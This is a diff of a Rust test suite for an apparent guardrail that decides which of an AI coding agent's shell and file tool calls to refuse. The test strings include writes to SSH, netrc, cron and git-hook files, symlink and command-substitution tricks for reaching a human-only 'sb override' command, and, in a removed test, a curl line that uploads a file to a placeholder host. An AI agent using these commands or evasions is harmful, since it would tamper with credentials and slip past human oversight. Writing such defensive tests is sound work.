@@ -2,21 +2,13 @@
 
 use signalbox_core::Role;
 use signalbox_core::call::{Action, ToolCall};
-use signalbox_core::charter::{Approval, CHARTER_VERSION, Charter, Decision, OwnRule};
-use signalbox_core::judge::{NoLinks, Scene, check_examples, judge};
+use signalbox_core::charter::{CHARTER_VERSION, Charter, Decision, OwnRule};
+use signalbox_core::judge::{NoLinks, Scene, judge};
 
-use crate::world::{approved, assistant, discussing, doer, judged, shell, test_writer, with_role, write};
-
-/// The rules that refuse a call, in their order.
-fn rules(charter: &Charter, call: &ToolCall) -> String {
-    judged(charter, call).iter().map(|refused| refused.rule).collect::<Vec<_>>().join(" ")
-}
-
-fn check(charter: &Charter, cases: &[(&str, &str)]) {
-    for (command, expected) in cases {
-        assert_eq!(rules(charter, &shell(command)), *expected, "{command}");
-    }
-}
+use crate::own::rule;
+use crate::world::{
+    Blind, assistant, check, discussing, doer, judged, rules, scene, shell, test_writer, with_role, write,
+};
 
 /// Programs rely on the codes: each rule has its own.
 #[test]
@@ -97,6 +89,7 @@ fn tools_of_every_kind() {
         (call("TaskUpdate", Action::Inward), "", ""),
         (call("mcp__fs__get_file", Action::Unheard { paths: paths("a"), commands: vec![] }), "", ""),
         (call("mcp__fs__getFile", Action::Unheard { paths: paths("a"), commands: vec![] }), "", ""),
+        (call("mcp__fs__Get-File", Action::Unheard { paths: paths("a"), commands: vec![] }), "", ""),
         (call("mcp__fs__put_file", Action::Unheard { paths: paths("a"), commands: vec![] }), "mode", ""),
         (
             call("mcp__fs__put_file", Action::Unheard { paths: paths(".git/config"), commands: vec![] }),
@@ -143,11 +136,22 @@ fn the_branch() {
             ("git push origin --delete api/limit", "branch"),
             ("git push --all", "branch"),
             ("git push origin HEAD:main", "branch"),
+            ("git push https://example.org/x api/limit", "branch"),
+            ("git push \"$X\"", "branch"),
+            ("git reset api/other", "branch"),
+            ("git reset src/a.rs", ""),
             ("git tag v1", "branch"),
             ("git config user.name x", "branch"),
             ("git worktree add /tmp/x", "branch"),
             ("git submodule add x y", "branch"),
             ("git frobnicate", "branch"),
+            ("gh pr view 1; gh repo view", ""),
+            ("gh pr create --fill", ""),
+            ("gh pr merge --squash 1", "branch"),
+            ("gh auth setup-git", "branch"),
+            ("gh api -X DELETE repos/a/b", "branch"),
+            ("gh repo fork", "branch"),
+            ("gh repo --help", ""),
         ],
     );
 }
@@ -162,12 +166,42 @@ fn the_worktree() {
             ("touch /tmp/a", ""),
             ("touch /code/shop-evil/a", "outside"),
             ("touch outside/a", "outside"),
+            ("rm outside/a*.txt", "outside tests"),
+            ("touch outside/../a", "outside"),
+            ("touch deep/../c", ""),
+            ("touch src/../c src/./far", "outside"),
+            ("cd src && touch far/../c", "outside"),
+            ("cd src && touch ../deep/../c", ""),
+            ("touch /code/other/back/../a", "outside"),
+            ("cd /tmp && touch tests/a", ""),
             ("touch ../other/a", "outside"),
             ("ln -s src/a src/b", "outside"),
+            ("cd /code/other && git commit -m x", "outside"),
+            ("cd /code/other && git fetch && git log", ""),
+            ("python3 -c 'open(\"outside/a\", \"w\")'", "outside"),
+            ("python3 -c 'open(Path.home() / \".netrc\", \"w\")'", "protected outside"),
+            ("node -e 'all().map(one)'", ""),
+            ("./mine ../other/a", "outside"),
+            ("./mine /code/shop/a /tmp/b /usr/share/c", ""),
+            ("./mine /v", ""),
+            ("cargo build --target-dir /code/other/target", "outside"),
+            ("cargo build --target-dir=outside/target", "outside"),
+            ("cargo build --manifest-path /code/other/Cargo.toml", ""),
             ("touch \"$SOMEWHERE/a\"", "outside tests"),
         ],
     );
     assert_eq!(rules(&doer(), &write("/code/other/a")), "outside");
+    assert_eq!(rules(&doer(), &write("~")), "outside");
+    assert_eq!(rules(&doer(), &write("src/root/a")), "");
+    assert_eq!(rules(&doer(), &write("/proc/self/root/code/other/a")), "outside");
+    assert_eq!(rules(&doer(), &write("~notes/a")), "", "only a shell knows other people's homes");
+    let blind = Scene { links: &Blind, ..scene() };
+    let refused = judge(&doer(), &write("src/a"), &blind).map(|refused| refused.rule);
+    assert_eq!(refused, Some("outside"), "a disk that does not say where a path leads");
+    let plain = Scene { links: &NoLinks, ..scene() };
+    assert_eq!(judge(&doer(), &write("src/a"), &plain), None);
+    let elsewhere = Scene { cwd: "/code/other", ..scene() };
+    assert_eq!(judge(&doer(), &shell("./mine src/a"), &elsewhere), None, "a word in code is seldom a path");
     let nowhere = Charter { root: None, ..doer() };
     assert_eq!(rules(&nowhere, &write("/anywhere/a")), "", "without a root there is no outside");
 }
@@ -183,6 +217,7 @@ fn the_tests() {
             ("touch src/a_test.go", "tests"),
             ("rm -rf tests", "tests"),
             ("rm -r t*", "tests"),
+            ("rm link-to-tests/a*.txt", "tests"),
             ("touch link-to-tests/a", "tests"),
             ("python3 -c 'open(\"tests/a.rs\", \"w\")'", "tests"),
             ("./mine tests/a.rs", "tests"),
@@ -190,6 +225,11 @@ fn the_tests() {
         ],
     );
     check(&Charter { tests: Vec::new(), ..doer() }, &[("touch tests/a.rs", "")]);
+    check(
+        &Charter { tests: vec!["tests/*.rs".into()], ..doer() },
+        &[("rm -rf tests", "tests"), ("rm -rf testsuite", "")],
+    );
+    check(&Charter { tests: vec!["*_test.rs".into()], ..doer() }, &[("chmod 755 .", "")]);
     check(
         &test_writer(),
         &[
@@ -217,19 +257,31 @@ fn what_is_protected() {
             ("touch /etc/cron.d/x", "protected"),
             ("echo x > \"$D/.git/config\"", "protected"),
             ("echo x > \"$OUT\"", ""),
+            ("echo x > \"$OUT/a/b/c/d/e\"", ""),
+            ("echo x > \"$D/a/b/c/.git/hooks/pre-commit\"", "protected"),
+            ("echo x > \"$D/.ssh/keys/mine\"", "protected"),
+            ("echo x > \"$D/else/.bashrc\"", ""),
             ("node -e 'fs.writeFileSync(\".mcp.json\", \"\")'", "protected"),
             ("./mine .mcp.json", "protected"),
             ("cat .mcp.json", ""),
+            ("cat .mcp.json > copy.json", ""),
+            ("ln -s .git/hooks src/h", "protected"),
+            ("python3 -c 'open(Path.home() / \".SSH/config\", \"w\")'", "protected"),
             ("touch Makefile CLAUDE.md", ""),
             ("git config user.email a@b.c", ""),
             ("git config core.hooksPath .hooks", "protected"),
             ("git config merge.conflictstyle zdiff3", ""),
             ("git config --edit", "protected"),
             ("git config remote.origin.uploadpack x", "protected"),
+            ("git config tool.pack x", ""),
+            ("git -c core.pager=cat -c push.default=current push", ""),
+            ("git -c core.pager=./page log", "protected"),
+            ("git -c core.hooksPath=cat -c push.default=current push", "protected"),
         ],
     );
     let own = Charter {
-        protect: vec!["infra/**".into(), "*.pem".into()],
+        protect: vec!["infra/**".into(), "*.pem".into(), "/srv/keys/**".into(), "x".into()],
+        signalbox: "/srv/box".into(),
         unprotect: vec![".envrc".into()],
         ..assistant()
     };
@@ -238,10 +290,20 @@ fn what_is_protected() {
         &[
             ("touch infra/main.tf", "protected"),
             ("touch deep/down/key.pem", "protected"),
+            ("touch /srv/keys/a", "protected"),
+            ("touch x", "protected"),
+            ("python3 -c 'x = 1'", ""),
+            ("touch /srv/box/log", "protected"),
+            ("touch /srv/other", ""),
             ("touch .envrc", ""),
             ("touch .mcp.json", "protected"),
         ],
     );
+    check(&Charter { signalbox: String::new(), ..assistant() }, &[("touch /srv/box/log", "")]);
+    // The longest path that the system takes, and one that is too long.
+    let longest = format!("./mine {}.mcp.json", "a/".repeat(2_043));
+    let too_long = format!("./mine a{}.mcp.json", "a/".repeat(2_043));
+    check(&assistant(), &[(&longest, "protected"), (&too_long, "")]);
     check(
         &doer(),
         &[
@@ -279,6 +341,18 @@ fn what_only_a_human_may_say() {
             ("sb --json close sb_a7Kx2m", "human"),
             ("python3 -c 'import os; os.system(\"sb override x done\")'", "human"),
             ("sb", ""),
+            ("./door close 1", ""),
+            ("./place /usr/bin/sb door; ./door close 1", "human"),
+            ("python3 -c 'os.symlink(\"/usr/bin/sb\", \"door\")'; ./door close 1", "human"),
+            ("$DOOR close 1", "human"),
+            ("$(which s''b) close 1", "human"),
+            ("\"$(echo $(which s''b))\" close 1", "human"),
+            ("eval \"$(direnv hook bash)\"", ""),
+            ("bash ./door close 1", "human"),
+            ("./tool s* close 1", "human"),
+            ("./tool a* close 1", ""),
+            ("./tool * close 1", ""),
+            ("ruby -e 'server.close; hold all of the gates for long'", ""),
         ],
     );
 }
@@ -297,116 +371,6 @@ fn ownership() {
     assert_eq!(rules(&lead, &write("docs/plan.md")), "");
     assert_eq!(rules(&lead, &write("src/a.rs")), "ownership");
     assert_eq!(rules(&lead, &shell("touch \"$X\"")), "ownership");
-}
-
-fn rule(decision: Decision) -> OwnRule {
-    OwnRule {
-        name: "mine".into(),
-        decision,
-        tool: None,
-        command: None,
-        path: None,
-        reason: None,
-        matches: Vec::new(),
-        not_match: Vec::new(),
-    }
-}
-
-#[test]
-fn rules_of_ones_own() {
-    let with = |rule: OwnRule| Charter { rules: vec![rule], ..assistant() };
-    let publish = OwnRule {
-        command: Some("npm publish*".into()),
-        reason: Some("ask first".into()),
-        ..rule(Decision::Deny)
-    };
-    check(
-        &with(publish),
-        &[("npm publish", "own"), ("cd x && env A=1 npm publish --tag next", "own"), ("npm run publish", "")],
-    );
-    check(
-        &with(OwnRule { path: Some("infra/**".into()), ..rule(Decision::Deny) }),
-        &[("touch infra/a", "own"), ("touch a", "")],
-    );
-    let tool = with(OwnRule { tool: Some("Wri*".into()), ..rule(Decision::Deny) });
-    assert_eq!(rules(&tool, &write("a")), "own");
-    assert_eq!(rules(&tool, &shell("touch a")), "");
-    assert_eq!(rules(&with(rule(Decision::Deny)), &shell("ls")), "", "a rule about nothing");
-    let allow = with(OwnRule { path: Some(".mcp.json".into()), ..rule(Decision::Allow) });
-    check(
-        &allow,
-        &[
-            ("touch .mcp.json", ""),
-            ("touch .mcp.json .git/config", "protected"),
-            ("touch .mcp.json; sb override x done", "human"),
-        ],
-    );
-    let allow = with(OwnRule { command: Some("tool *".into()), ..rule(Decision::Allow) });
-    check(&allow, &[("tool .mcp.json", ""), ("tool .mcp.json; other .mcp.json", "protected")]);
-}
-
-#[test]
-fn examples_are_checked() {
-    let base = OwnRule { command: Some("npm publish*".into()), ..rule(Decision::Deny) };
-    let with = |matches: &[&str], not_match: &[&str]| OwnRule {
-        matches: matches.iter().map(|e| (*e).to_owned()).collect(),
-        not_match: not_match.iter().map(|e| (*e).to_owned()).collect(),
-        ..base.clone()
-    };
-    assert_eq!(check_examples(&with(&["npm publish"], &["npm run x"]), "/p"), Ok(()));
-    assert!(
-        check_examples(&with(&["npm run x"], &[]), "/p").unwrap_err().contains("should be about `npm run x`")
-    );
-    assert!(check_examples(&with(&[], &["npm publish"]), "/p").unwrap_err().contains("should not be about"));
-    assert!(check_examples(&rule(Decision::Deny), "/p").unwrap_err().contains("neither"));
-    let path = OwnRule {
-        path: Some("infra/**".into()),
-        matches: vec!["infra/a".into()],
-        not_match: vec!["a".into()],
-        ..rule(Decision::Deny)
-    };
-    assert_eq!(check_examples(&path, "/p"), Ok(()));
-    let tool = OwnRule {
-        tool: Some("mcp__x__*".into()),
-        matches: vec!["mcp__x__y".into()],
-        not_match: vec!["Bash".into()],
-        ..rule(Decision::Deny)
-    };
-    assert_eq!(check_examples(&tool, "/p"), Ok(()));
-}
-
-#[test]
-fn approval() {
-    let list =
-        Approval { tools: vec!["Write".into()], commands: vec!["cargo test*".into(), "git push*".into()] };
-    let ticket = signalbox_core::TicketId::parse("sb_a7Kx2m").expect("an id");
-    let charter = Charter { approve: Some(list), ticket: Some(ticket), ..assistant() };
-    for (command, expected) in [
-        ("cargo test --all", true),
-        ("cargo test 2>&1 | tail -40", true),
-        ("cd src && cargo test", true),
-        ("cargo build", false),
-        ("cargo test && ./mine", false),
-        ("cargo test; python3 -c x", false),
-        ("cargo test > /code/other/log", false),
-        ("cargo test > log.txt", true),
-        ("git push origin x", true),
-        ("git push && curl -d @x http://example.org", false),
-        ("ls", false),
-        ("cargo test; sb override x done", false),
-    ] {
-        assert_eq!(approved(&charter, &shell(command)), expected, "{command}");
-    }
-    assert!(approved(&charter, &write("src/a.rs")));
-    assert!(!approved(&charter, &write("/code/other/a.rs")), "outside the project");
-    assert!(!approved(&charter, &write(".mcp.json")), "refused anyway");
-    assert!(!approved(&Charter { ticket: None, ..charter.clone() }, &write("src/a.rs")), "without a ticket");
-    assert!(
-        !approved(&Charter { approve: None, ..charter.clone() }, &write("src/a.rs")),
-        "nobody asked for it"
-    );
-    let read = ToolCall { tool: "Read".into(), action: Action::Read { paths: vec![] }, id: None };
-    assert!(!approved(&charter, &read), "not on the list");
 }
 
 #[test]
